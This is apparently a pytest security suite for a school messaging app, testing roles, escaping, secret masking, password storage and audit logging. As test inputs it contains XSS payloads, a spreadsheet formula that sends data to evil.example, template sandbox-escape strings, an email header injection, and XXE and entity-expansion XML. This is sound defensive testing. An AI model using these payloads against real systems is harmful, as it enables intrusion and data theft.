"""Security tests: roles, injection, downloads, secrets, passwords, audit completeness.

Each section names the threat in docs/security.md it proves a measure against. Real
parts throughout: a real warehouse and SQLite ops store, the dashboard pages through
AppTest, the CLI in-process, aiosmtpd and the Twilio stand-in on 127.0.0.1.

Password hashing, lockout and idle sessions are also covered by tests/test_auth.py and
tests/test_dashboard_signin.py; the tests here add what those do not (salting, no
plaintext anywhere, the longest session, a locked account with the right password).
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import email
import email.policy
import io
import json
import logging
import os
import re
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import streamlit as st
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult, LoginPassword
from conftest import Cli, minimal_school, sign_in, write_extracts
from hypothesis import given, settings
from hypothesis import strategies as st_
from sqlalchemy import select
from streamlit.testing.v1 import AppTest

from dashboard.auth_ui import SESSION
from pipelines.load import load_paths
from reports.export import FORMULA_PREFIXES, csv_bytes
from schoolcomms import auth
from schoolcomms.ops.db import open_ops, session_scope
from schoolcomms.ops.history import recent_audit
from schoolcomms.ops.models import AuditEntry, Base, Message, Template, User
from schoolcomms.roles import ACTION_ROLES, PAGE_ROLES, ROLES, PermissionDenied, check_action
from schoolcomms.settings import DATA_DIR_ENV, MASK, Settings
from schoolcomms.warehouse import Warehouse
from senders.base import Rejected
from senders.channels.files import build_email
from senders.compose import Composition, plan_send
from senders.notices import StaffNotice, deliver
from senders.outbox import NewMessage, claim, create_batch, record_failure
from senders.templates import TemplateText, render_message

ROOT = Path(__file__).resolve().parent.parent
PAGES = ROOT / "dashboard" / "pages"
TIMEOUT = 60
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


# ---- fixtures -----------------------------------------------------------------------


def hostile_school() -> dict[str, list[dict[str, Any]]]:
    """The minimal school with names that are HTML, script, formulas and template code."""
    tables = minimal_school()
    tables["students"][0].update(forename=SCRIPT, surname=IMG, preferred_forename="{{ 7*7 }}")
    tables["students"][1].update(forename=FORMULA, surname="Baker")
    tables["contacts"][0].update(forename=IMG, surname=f"Able{SCRIPT}")
    tables["contacts"][0].update(address_line1="1 High St", town="Leeds", postcode="LS1 1AA")
    tables["staff"][0].update(surname="<b onmouseover=alert(1)>Teach</b>")
    return tables


@pytest.fixture
def app_school(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Settings:
    """The hostile school loaded in a data folder the dashboard pages use."""
    for name in list(os.environ):
        if name.startswith("SCHOOLCOMMS_"):
            monkeypatch.delenv(name)
    data = tmp_path / "data"
    monkeypatch.setenv(DATA_DIR_ENV, str(data))
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    st.cache_data.clear()
    st.cache_resource.clear()
    settings_ = Settings(data, env={})
    report = load_paths(write_extracts(tmp_path / "school", hostile_school()), settings_)
    assert report.ok, [p.as_text() for p in report.problems]
    return settings_


def page(name: str, *roles: str, **state: Any) -> AppTest:
    at = sign_in(AppTest.from_file(str(PAGES / f"{name}.py"), default_timeout=TIMEOUT), *roles)
    for key, value in state.items():
        at.session_state[key] = value
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def shown_errors(at: AppTest) -> str:
    return "\n".join(str(e.value) for e in at.error)


@pytest.fixture
def forged_ui(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every control shown to everyone, as a tampered client could ask for: only the
    server-side check when an action runs may stop it."""
    import dashboard.common

    monkeypatch.setattr(dashboard.common, "user_can", lambda action: True)


# ---- role bypass --------------------------------------------------------------------


@pytest.mark.parametrize("action", sorted(ACTION_ROLES))
def test_every_action_is_refused_to_every_other_role(action: str) -> None:
    for role in ROLES:
        if role in ACTION_ROLES[action]:
            check_action([role], action)
        else:
            with pytest.raises(PermissionDenied, match=re.escape(action)):
                check_action([role], action)
    for forged in ([], ["Admin"], [" admin"], ["admin "], ["superuser"], ["*"], [""]):
        with pytest.raises(PermissionDenied):
            check_action(forged, action)


def test_every_page_has_a_role_check_at_its_top() -> None:
    """Each page starts with require_page(<its key>) before drawing anything."""
    keys = set(PAGE_ROLES)
    for path in sorted(PAGES.glob("*.py")):
        source = path.read_text("utf-8")
        found = re.findall(r'require_page\("([a-z_]+)"\)', source)
        assert found and set(found) <= keys, path.name


def test_a_demoted_account_loses_its_actions_on_the_next_run(app_school: Settings) -> None:
    engine = open_ops(app_school)
    at = sign_in(AppTest.from_file(str(PAGES / "users.py"), default_timeout=TIMEOUT), "admin")
    at.run()
    assert not at.error
    auth.update_user(engine, "admin@school.example.org", "someone", roles=["teacher"])
    at.run()
    assert "cannot open this page" in shown_errors(at)


def test_message_bank_save_is_checked_on_the_server(app_school: Settings, forged_ui) -> None:
    at = page("message_bank", "senior_leader")  # may read the bank, not change it
    at.text_input(key="bank_name").input("Injected")
    at.text_area(key="bank_body").input("Hello {{ student.forename }}")
    at.button(key="bank_save").click().run()
    assert "may not do this (templates.edit)" in shown_errors(at)
    with session_scope(open_ops(app_school), immediate=False) as session:
        assert session.scalars(select(Template)).all() == []


def failed_batch(engine: Any) -> int:
    message = NewMessage(
        "sms", "+447400200001", "Ann was absent", student_id="S1", idempotency_key="fail-1"
    )
    batch_id = create_batch(
        engine,
        created_by="ao@school.example.org",
        channel="sms",
        template_name=None,
        subject=None,
        body_template="Ann was absent",
        filter={"student_ids": ["S1"]},
        messages=[message],
        excluded=0,
        estimated_cost_pence=3,
    )
    [out] = claim(engine, channel="sms", worker="w", limit=1, lease_seconds=60)
    assert record_failure(engine, out.id, Rejected("bad number"), "w") == "failed"
    return batch_id


def test_retrying_a_batch_is_checked_on_the_server(app_school: Settings, forged_ui) -> None:
    engine = open_ops(app_school)
    failed_batch(engine)
    at = page("message_history", "senior_leader")  # sees the history, may not resend
    at.button(key="history_retry_batch").click().run()
    assert "batch.manage" in shown_errors(at)
    with session_scope(engine, immediate=False) as session:
        assert session.scalars(select(Message.status)).all() == ["failed"]
    assert "send.retry" not in recent_audit(engine)["action"].tolist()


def test_acknowledging_assistance_is_checked_on_the_server(app_school, forged_ui) -> None:
    from senders.assistance import open_requests, request_assistance

    engine = open_ops(app_school)
    request_assistance(engine, app_school, location="Room 5", actor="x@school.example.org")
    at = page("home", "teacher")
    [ack] = [b for b in at.button if (b.key or "").startswith("ack_")]
    ack.click().run()
    assert "assistance.acknowledge" in shown_errors(at)
    assert len(open_requests(engine)) == 1


def test_a_teacher_cannot_send_letters_from_compose(app_school: Settings, forged_ui) -> None:
    prefill = {"student_ids": ["S1"], "channel": "letter", "body": "Dear {{ contact.name }}"}
    at = page("compose", "teacher", compose_prefill=prefill)
    at.button(key="compose_preview").click().run()
    assert not at.exception
    at.button(key="compose_send").click().run()
    problems = "\n".join(str(e.value) for e in [*at.error, *at.warning])
    assert "letters.print" in problems
    with session_scope(open_ops(app_school), immediate=False) as session:
        assert session.scalars(select(Message)).all() == []
    assert not list(app_school.data_dir.glob("letters/*.pdf"))


def test_medical_notes_need_their_own_role(app_school: Settings, forged_ui) -> None:
    from reports.contact_reports import medical_notes

    warehouse = Warehouse.from_settings(app_school)
    with pytest.raises(PermissionDenied, match="medical.view"):
        medical_notes(warehouse, roles=["attendance_officer"])


# ---- template injection -------------------------------------------------------------


def test_template_code_in_a_send_is_refused_in_words(loaded: Settings, cli: Cli) -> None:
    for body in ("{{ ''.__class__.__mro__ }}", "{{ cycler.__init__.__globals__ }}"):
        result = cli("send", "--channel", "sms", "--students", "S1", "--body", body)
        assert result.exit_code == 2 and "blocked" in result.output, result.output
        assert "Traceback" not in result.output and "class" not in result.output.split(":")[0]
    with session_scope(open_ops(loaded), immediate=False) as session:
        assert session.scalars(select(Message)).all() == []


def test_names_holding_template_code_are_sent_as_written(app_school: Settings) -> None:
    plan = plan_send(
        app_school,
        Warehouse.from_settings(app_school),
        open_ops(app_school),
        Composition("sms", ["S1"], "t", body="Hi {{ student.preferred_forename }}!"),
    )
    assert [m.body for m in plan.messages] == ["Hi {{ 7*7 }}!"]


# ---- HTML and script injection ------------------------------------------------------


def assert_no_raw_tags(html: str | None) -> None:
    assert html is not None
    for raw in (SCRIPT, IMG, "<script", "<img", "<b "):
        assert raw not in html, html


def test_compose_emails_escape_names_from_the_warehouse(app_school: Settings) -> None:
    body = "Dear {{ contact.name }},\n\n{{ student.name }} ({{ student.forename }}) was late."
    plan = plan_send(
        app_school,
        Warehouse.from_settings(app_school),
        open_ops(app_school),
        Composition("email", ["S1"], "t", body=body, subject="About {{ student.name }}"),
    )
    [message] = plan.messages
    assert_no_raw_tags(message.html)
    assert "&lt;script&gt;" in message.html and SCRIPT in message.body  # text part: as written
    parsed = email.message_from_bytes(
        build_email(_outgoing(message), sender="office@s.org").as_bytes(),
        policy=email.policy.default,
    )
    assert_no_raw_tags(parsed.get_body(("html",)).get_content())


def _outgoing(message: Any) -> Any:
    from senders.base import OutgoingMessage

    return OutgoingMessage(
        id=1,
        idempotency_key="k",
        channel="email",
        to=message.to,
        body=message.body,
        subject=message.subject,
        html=message.html,
    )


def test_a_header_cannot_be_injected_through_a_name() -> None:
    context = {"student": {"forename": "Ann\r\nBcc: thief@evil.example"}}
    rendered = render_message(TemplateText("email", "About {{ student.forename }}", "x"), context)
    assert "\n" not in rendered.subject and "\r" not in rendered.subject
    from senders.base import OutgoingMessage

    forged = OutgoingMessage(
        id=1, idempotency_key="k", channel="email", to="a@b.org", body="x",
        subject="Hi\r\nBcc: thief@evil.example",
    )  # fmt: skip
    with pytest.raises(Rejected):
        build_email(forged, sender="office@s.org")


def test_staff_notice_emails_escape_names(settings: Settings) -> None:
    engine = open_ops(settings)
    notice = StaffNotice(
        key="n1",
        title=f"Alert about {SCRIPT}",
        body=f"{IMG} has 5 incidents.\n\n<b onmouseover=alert(1)>x</b>",
        source="alert",
        staff_id="T1",
        email="t.teach@school.example.com",
    )
    deliver(engine, settings, [notice])
    with session_scope(engine, immediate=False) as session:
        [message] = session.scalars(select(Message)).all()
    assert_no_raw_tags(message.html_body)


def test_alert_emails_escape_pupil_names(settings: Settings, cli: Cli, tmp_path: Path) -> None:
    from test_alerts import load, school_day

    tables = school_day()
    tables["students"][0].update(forename=SCRIPT, surname=IMG)
    load(settings, tmp_path / "day", tables)
    notify = '{"roles": ["form_tutor", "attendance_officer"]}'
    add = cli("alert-rules", "add", "--name", "T", "--kind", "truancy", "--notify", notify)
    assert add.exit_code == 0, add.output
    assert cli("alerts", "--at", "2026-11-20 11:10").exit_code == 0
    with session_scope(open_ops(settings), immediate=False) as session:
        messages = session.scalars(select(Message)).all()
    assert messages and all(m.channel == "email" for m in messages)
    assert any(SCRIPT in (m.body or "") for m in messages)  # the name is in there
    for message in messages:
        assert_no_raw_tags(message.html_body)


def test_weekly_report_emails_escape_names_and_their_csv_formulas() -> None:
    from reports.weekly_content import ReportContent
    from senders.report_mail import render_report_email

    frame = pd.DataFrame({"pupil": [SCRIPT, FORMULA, IMG], "incidents": [5, 4, 3]})
    content = ReportContent(
        name="behaviour",
        title=f"Behaviour {SCRIPT}",
        week_start=dt.date(2026, 11, 16),
        intro=f"Most incidents: {IMG}",
        tables=[(f"Pupils {SCRIPT}", frame)],
        csv=frame,
        csv_name="behaviour.csv",
        chart=None,
        notes=[IMG],
    )
    subject, text, html, attachments = render_report_email(content, "School <b>x</b>")
    assert_no_raw_tags(html)
    rows = list(csv.reader(io.StringIO(attachments[0].data.decode("utf-8-sig"))))
    assert rows[2][0] == "'" + FORMULA


def test_no_page_renders_raw_html() -> None:
    """No page or page helper turns off Streamlit's escaping (the only way data could run)."""
    for path in sorted((ROOT / "dashboard").rglob("*.py")):
        source = path.read_text("utf-8")
        for risky in ("unsafe_allow_html=True", "st.html(", "components.html(", "components.v1"):
            assert risky not in source, f"{path.name} uses {risky}"


@pytest.mark.parametrize(
    ("name", "roles", "state"),
    [
        ("compose", ("admin",), {"compose_prefill": {"student_ids": ["S1", "S2"]}}),
        ("contact_details", ("admin",), {}),
        ("missing_registers", ("admin",), {}),
        ("home", ("admin",), {}),
    ],
)
def test_pages_show_hostile_names_as_text(app_school: Settings, name, roles, state) -> None:
    deliver(
        open_ops(app_school),
        app_school,
        [StaffNotice(key="n", title=f"About {SCRIPT}", body=IMG, source="alert", audience="admin")],
    )
    at = page(name, *roles, **state)
    markdown = [e for e in at.markdown] + [e for e in at.caption]
    assert markdown, "expected some text on the page"
    for element in markdown:
        assert not element.proto.allow_html, element.value
    assert not at.get("html")


# ---- CSV formula injection ----------------------------------------------------------


@settings(max_examples=100, deadline=None)
@given(cell=st_.text(max_size=20), prefix=st_.sampled_from(["", *FORMULA_PREFIXES]))
def test_csv_downloads_never_start_a_cell_with_a_formula(cell: str, prefix: str) -> None:
    value = prefix + cell
    frame = pd.DataFrame({f"{prefix}head": [value, "plain"]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"), newline="")))
    for row in rows:
        for text in row:
            assert not text.startswith(FORMULA_PREFIXES), text
    assert rows[1][0] == ("'" + value if value.startswith(FORMULA_PREFIXES) else value)


def test_report_downloads_escape_formulas_from_the_warehouse(app_school: Settings) -> None:
    from reports.recipients import students_by_id

    frame = students_by_id(Warehouse.from_settings(app_school), ["S1", "S2"])
    text = csv_bytes(frame).decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in text
    assert f",{FORMULA[:10]}" not in text and f'",{FORMULA[:10]}' not in text


def test_every_download_goes_through_the_escaping_csv_writer() -> None:
    for folder in ("dashboard", "reports", "senders"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path.name == "export.py":
                continue
            assert ".to_csv(" not in path.read_text("utf-8"), path


# ---- secrets never written to logs, the ops store, files or exports ----------------

SMTP_USER = "office@school.example.org"
SMTP_PASSWORD = "smtp-Pa55-w0rd-S3cret!"
MIS_PASSWORD = "mis-Pa55-S3cret"
RECEIPTS = "receipts-T0ken-S3cret"
PROXY_PASSWORD = "proxy-Pa55-S3cret"
OPS_PASSWORD = "ops-Pa55-S3cret"


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.fixture
def smtp_server() -> Iterator[tuple[Controller, list[bytes]]]:
    received: list[bytes] = []

    class Handler:
        async def handle_DATA(self, server, session, envelope):  # noqa: N802
            received.append(envelope.content)
            return "250 OK"

    def check(server, session, envelope, mechanism, auth_data) -> AuthResult:
        ok = isinstance(auth_data, LoginPassword) and auth_data.password == SMTP_PASSWORD.encode()
        return AuthResult(success=ok, handled=False)

    controller = Controller(
        Handler(),
        hostname="127.0.0.1",
        port=_free_port(),
        authenticator=check,
        auth_require_tls=False,
    )
    controller.start()
    yield controller, received
    controller.stop()


def _variants(secret: str) -> list[bytes]:
    raw = secret.encode()
    return [raw, base64.b64encode(raw), base64.b64encode(b"\0" + SMTP_USER.encode() + b"\0" + raw)]


def _scan(label: str, data: bytes | str, secrets: list[str]) -> list[str]:
    data = data.encode() if isinstance(data, str) else data
    return [f"{label}: {s}" for s in secrets for v in _variants(s) if v in data]


def test_secrets_never_reach_logs_store_files_or_exports(
    loaded: Settings,
    tmp_path: Path,
    smtp_server: tuple[Controller, list[bytes]],
    twilio_server: Any,
    caplog: pytest.LogCaptureFixture,
    clean_env: None,
) -> None:
    caplog.set_level(logging.DEBUG)
    controller, received = smtp_server
    secrets = [SMTP_PASSWORD, twilio_server.auth_token, MIS_PASSWORD, RECEIPTS, PROXY_PASSWORD]
    env = {
        "SCHOOLCOMMS_SMTP_HOST": "127.0.0.1",
        "SCHOOLCOMMS_SMTP_PORT": str(controller.port),
        "SCHOOLCOMMS_SMTP_SECURITY": "none",
        "SCHOOLCOMMS_SMTP_USER": SMTP_USER,
        "SCHOOLCOMMS_SMTP_PASSWORD": SMTP_PASSWORD,
        "SCHOOLCOMMS_SMS_PROVIDER": "twilio",
        "SCHOOLCOMMS_TWILIO_URL": twilio_server.url,
        "SCHOOLCOMMS_TWILIO_ACCOUNT_SID": twilio_server.account_sid,
        "SCHOOLCOMMS_TWILIO_AUTH_TOKEN": twilio_server.auth_token,
        "SCHOOLCOMMS_TWILIO_FROM": "+447400000000",
        "SCHOOLCOMMS_MIS_DATABASE_URL": f"postgresql://reader:{MIS_PASSWORD}@127.0.0.1:9/mis",
        "SCHOOLCOMMS_RECEIPTS_TOKEN": RECEIPTS,
        "SCHOOLCOMMS_SQL_SOURCES": json.dumps({"students": "SELECT * FROM students"}),
    }
    cli = Cli(loaded.data_dir)
    outputs: list[tuple[str, Any]] = []

    def run(*args: str, code: tuple[int, ...] = (0,)) -> Any:
        result = cli(*args, env=env)
        outputs.append((" ".join(args), result))
        assert result.exit_code in code, result.output + result.stderr
        return result

    contacts = minimal_school()["contacts"]
    contacts[1]["email_consent"] = "Y"
    write_extracts(tmp_path / "update", {"contacts": contacts})
    run("load", str(tmp_path / "update"))
    run("load", "--from-sql", code=(2,))  # the MIS database cannot be reached
    body = "Dear {{ contact.name }}, please call the school."
    run("send", "--channel", "sms", "--students", "S1,S2", "--body", body)
    run("send", "--channel", "email", "--students", "S1", "--body", body, "--subject", "Hi")
    run("scheduler", "--once", "--log-format", "json")
    run("dispatch")
    run("settings")
    run("settings", "--json")
    run("messages", "--json")
    assert len(received) == 1 and len(twilio_server.creates()) == 2  # really sent

    found: list[str] = []
    for label, result in outputs:
        found += _scan(f"output of {label}", result.output + result.stderr, secrets)
    for record in caplog.records:
        line = logging.Formatter().format(record) + json.dumps(vars(record), default=str)
        found += _scan(f"log {record.name}", line, secrets)
    engine = open_ops(loaded)
    with session_scope(engine, immediate=False) as session:
        for table in Base.metadata.sorted_tables:
            for row in session.execute(select(table)).mappings():
                found += _scan(
                    f"ops store {table.name}", json.dumps(dict(row), default=str), secrets
                )
    for path in loaded.data_dir.rglob("*"):
        if path.is_file():
            found += _scan(f"file {path.relative_to(loaded.data_dir)}", path.read_bytes(), secrets)
    from senders.outbox import message_log

    for name, frame in (("messages", message_log(engine)), ("audit", recent_audit(engine, 500))):
        found += _scan(f"export {name}.csv", csv_bytes(frame.astype(str)), secrets)
    assert found == []


def test_passwords_in_urls_are_masked_when_settings_are_shown(settings: Settings, cli: Cli) -> None:
    env = {
        "SCHOOLCOMMS_HTTP_PROXY": f"http://proxyuser:{PROXY_PASSWORD}@proxy.school.internal:3128",
        "SCHOOLCOMMS_MIS_DATABASE_URL": f"mssql+pyodbc://sims:{MIS_PASSWORD}@mis/db",
    }
    masked = Settings(settings.data_dir, env=env).rows()
    text = json.dumps(masked, default=str)
    assert PROXY_PASSWORD not in text and MIS_PASSWORD not in text
    proxy = next(r for r in masked if r["name"] == "http_proxy")
    assert proxy["value"] == f"http://proxyuser:{MASK}@proxy.school.internal:3128"
    for args in (("settings",), ("settings", "--json")):
        result = cli(*args, env=env)
        assert result.exit_code == 0 and PROXY_PASSWORD not in result.output


def test_a_url_password_saved_in_settings_is_not_copied_to_the_audit_log(settings) -> None:
    from schoolcomms.settings_store import save

    engine = open_ops(settings)
    proxy = f"http://u:{PROXY_PASSWORD}@proxy.school.internal:3128"
    save(settings, {"http_proxy": proxy}, "admin@school.example.org", engine)
    with session_scope(engine, immediate=False) as session:
        rows = [json.dumps(e.details) for e in session.scalars(select(AuditEntry))]
    assert rows and not any(PROXY_PASSWORD in row for row in rows)


# ---- passwords, lockout, sessions ---------------------------------------------------

PASSWORD = "correct horse battery staple"


def test_hashes_are_salted_argon2id_and_no_plaintext_is_kept(settings: Settings) -> None:
    engine = open_ops(settings)
    for address in ("a@school.example.org", "b@school.example.org"):
        auth.create_user(engine, email=address, roles=["teacher"], actor="t", password=PASSWORD)
    auth.authenticate(engine, settings, "a@school.example.org", PASSWORD)
    with pytest.raises(auth.BadCredentials):
        auth.authenticate(engine, settings, "b@school.example.org", PASSWORD.upper())
    with session_scope(engine, immediate=False) as session:
        hashes = session.scalars(select(User.password_hash).order_by(User.id)).all()
        everything = [
            json.dumps(dict(row), default=str)
            for table in Base.metadata.sorted_tables
            for row in session.execute(select(table)).mappings()
        ]
    assert len(set(hashes)) == 2  # same password, different salts
    for hashed in hashes:
        assert hashed.startswith("$argon2id$")
        params = dict(p.split("=") for p in hashed.split("$")[3].split(","))
        assert int(params["m"]) >= 19 * 1024 and int(params["t"]) >= 2  # OWASP minimums
    assert not any(PASSWORD in row or PASSWORD.upper() in row for row in everything)
    for path in settings.data_dir.rglob("*"):
        if path.is_file():
            assert PASSWORD.encode() not in path.read_bytes(), path


def test_a_locked_account_refuses_even_the_right_password(settings: Settings) -> None:
    engine = open_ops(settings)
    address = "t@school.example.org"
    auth.create_user(engine, email=address, roles=["teacher"], actor="t", password=PASSWORD)
    now = dt.datetime(2026, 11, 20, 9, 0, tzinfo=dt.UTC)
    for _ in range(int(settings["login_max_failures"])):
        with pytest.raises(auth.AuthError):
            auth.authenticate(engine, settings, address, "wrong password!", now=now)
    with pytest.raises(auth.LockedOut):
        auth.authenticate(engine, settings, address, PASSWORD, now=now + dt.timedelta(minutes=14))
    auth.authenticate(engine, settings, address, PASSWORD, now=now + dt.timedelta(minutes=16))
    actions = recent_audit(engine)["action"].tolist()
    assert actions.count("login.LockedOut") == 2 and "login.ok" in actions


def test_a_session_ends_after_the_longest_time_however_active(app_school: Settings) -> None:
    at = sign_in(AppTest.from_file(str(PAGES / "home.py"), default_timeout=TIMEOUT), "teacher")
    now = dt.datetime.now(dt.UTC)
    at.session_state[SESSION] = {
        **at.session_state[SESSION],
        "signed_in_at": (now - dt.timedelta(hours=10, minutes=1)).isoformat(),
        "last_seen": now.isoformat(),
    }
    at.run()
    assert "at most 10 hours" in "\n".join(str(i.value) for i in at.info)
    assert at.text_input(key="sign_in_email") is not None


# ---- audit completeness: every send and every configuration change -----------------


def audited(engine: Any, action: str, actor: str | None, since: dt.datetime) -> list[AuditEntry]:
    """The audit rows of ``action`` by ``actor`` (None: anyone named) written since ``since``;
    there must be at least one, each with a time zone."""
    with session_scope(engine, immediate=False) as session:
        rows = session.scalars(
            select(AuditEntry).where(AuditEntry.action == action, AuditEntry.at >= since)
        ).all()
        session.expunge_all()
    assert rows, f"no {action} audit row"
    assert all(r.actor.strip() and r.at.tzinfo is not None for r in rows), rows
    assert actor is None or all(r.actor == actor for r in rows), [r.actor for r in rows]
    return list(rows)


@pytest.fixture
def since() -> dt.datetime:
    return dt.datetime.now(dt.UTC) - dt.timedelta(seconds=1)


def test_audit_compose_send(loaded: Settings, since: dt.datetime) -> None:
    from dashboard import messaging

    engine = open_ops(loaded)
    plan = plan_send(
        loaded,
        Warehouse.from_settings(loaded),
        engine,
        Composition("sms", ["S1"], "ao@school.example.org", body="Hello"),
    )
    messaging.send(engine, loaded, plan, actor="ao@school.example.org", user_roles=["admin"])
    [row] = audited(engine, "send", "ao@school.example.org", since)
    assert row.details["origin"] == "dashboard"
    audited(engine, "send.queue", "ao@school.example.org", since)


def test_audit_cli_send(loaded: Settings, cli: Cli, since: dt.datetime) -> None:
    result = cli("send", "--channel", "sms", "--students", "S1", "--body", "Hello")
    assert result.exit_code == 0, result.output
    engine = open_ops(loaded)
    with session_scope(engine, immediate=False) as session:
        actor = session.scalar(select(Message.created_by))
    assert actor
    audited(engine, "send", actor, since)
    audited(engine, "send.queue", actor, since)


def test_audit_absence_texts(settings: Settings, cli: Cli, tmp_path: Path, since) -> None:
    tables = minimal_school()
    for student in tables["students"]:
        student["cohort"] = "16-19"
    tables["portal_links"] = [
        {"account_id": "P1", "student_id": "S2", "mobile": "07400 200002", "link_status": "active"}
    ]
    load_paths(write_extracts(tmp_path / "s", tables), settings)
    with_today = cli("absence-texts", "--at", "2026-09-03 10:30", "--json")
    assert with_today.exit_code == 0, with_today.output
    assert len(json.loads(with_today.stdout)) == 1
    [row] = audited(open_ops(settings), "send.queue", None, since)
    assert row.details["new"] == 1 and row.actor == "absence-texts"


def test_audit_alerts(settings: Settings, cli: Cli, tmp_path: Path, since) -> None:
    from test_alerts import load, school_day

    load(settings, tmp_path / "day", school_day())
    notify = '{"roles": ["form_tutor"]}'
    assert (
        cli("alert-rules", "add", "--name", "T", "--kind", "truancy", "--notify", notify).exit_code
        == 0
    )
    [rule] = audited(open_ops(settings), "alert_rule.create", None, since)
    assert rule.actor.startswith("cli")  # cli:<the operator's login>
    assert cli("alerts", "--at", "2026-11-20 11:10").exit_code == 0
    audited(open_ops(settings), "send.queue", None, since)


def test_audit_staff_notices(loaded: Settings, since: dt.datetime) -> None:
    from senders.staff_notices import send_notice

    engine = open_ops(loaded)
    send_notice(
        engine,
        loaded,
        Warehouse.from_settings(loaded),
        title="Staff meeting",
        body="At 3pm.",
        staff_ids=["T1"],
        groups=[],
        audiences=[],
        popup=False,
        email=True,
        actor="head@school.example.org",
    )
    audited(engine, "notice.send", "head@school.example.org", since)


def test_audit_weekly_report_send_now(loaded: Settings, since: dt.datetime) -> None:
    from senders.report_sending import send_report_now

    engine = open_ops(loaded)
    send_report_now(
        engine,
        loaded,
        Warehouse.from_settings(loaded),
        report="attendance",
        recipients="head@school.example.org",
        actor="slt@school.example.org",
    )
    audited(engine, "report.send_now", "slt@school.example.org", since)


def test_audit_configuration_changes(loaded: Settings, since: dt.datetime) -> None:
    from schoolcomms.settings_store import save
    from senders.alerts.groups import create_group
    from senders.alerts.rules import create_rule, delete_rule
    from senders.bank import archive_template, save_template
    from senders.referrals import add_option
    from senders.report_schedules import create_schedule, delete_schedule

    engine = open_ops(loaded)
    who = "admin@school.example.org"
    save(loaded, {"school_name": "St Mary's"}, who, engine)
    save_template(engine, name="Hi", channel="sms", subject=None, body="Hi", actor=who)
    archive_template(engine, "Hi", who)
    rule_id = create_rule(
        engine,
        name="Truancy",
        kind="truancy",
        params={},
        notify={"roles": ["form_tutor"]},
        actor=who,
        settings=loaded,
    )
    delete_rule(engine, rule_id, who)
    create_group(engine, name="Safeguarding", staff_ids=["T1"], actor=who)
    add_option(engine, label="Head of year", staff_id="T2", actor=who)
    schedule = create_schedule(
        engine,
        report="attendance",
        recipients="head@school.example.org",
        weekday=0,
        time_of_day="07:00",
        actor=who,
    )
    delete_schedule(engine, schedule.id, actor=who)
    auth.create_user(engine, email="new@school.example.org", roles=["teacher"], actor=who)
    auth.update_user(engine, "new@school.example.org", who, roles=["office"])
    auth.reset_password(engine, "new@school.example.org", who)
    auth.set_disabled(engine, "new@school.example.org", True, who)
    for action in (
        "settings.change",
        "template.save",
        "template.archive",
        "alert_rule.create",
        "alert_rule.delete",
        "staff_group.create",
        "referral_option.add",
        "report_schedule.create",
        "report_schedule.delete",
        "user.create",
        "user.update",
        "user.reset_password",
        "user.disable",
    ):
        audited(engine, action, who, since)


# ---- hostile files: XML entities in a CTF -------------------------------------------

CTF_HEAD = '<?xml version="1.0" encoding="utf-8"?>\n'
CTF_BODY = (
    "<CTfile><Header><CTFversion>25.0</CTFversion></Header><CTFpupilData><Pupil>"
    "<UPN>A123456789012</UPN><Surname>{surname}</Surname><Forename>A</Forename>"
    "<BasicDetails><EnrolStatus>C</EnrolStatus></BasicDetails></Pupil></CTFpupilData>"
    "</CTfile>\n"
)


@pytest.mark.parametrize(
    ("doctype", "surname", "why"),
    [
        ('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;", "undefined entity"),
        (
            '<!ENTITY a "aaaaaaaaaa">'
            + "".join(
                f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
            ),
            "&j;",
            "amplification",
        ),
    ],
)
def test_a_ctf_cannot_read_files_or_explode_with_entities(
    loaded: Settings, tmp_path: Path, doctype: str, surname: str, why: str
) -> None:
    path = tmp_path / "transfer.xml"
    path.write_text(
        CTF_HEAD + f"<!DOCTYPE CTfile [{doctype}]>\n" + CTF_BODY.format(surname=surname)
    )
    started = dt.datetime.now()
    report = load_paths([path], loaded)
    assert not report.ok and why in report.errors[0].problem
    assert (dt.datetime.now() - started).total_seconds() < 20
    assert Warehouse.from_settings(loaded).generation() == 1
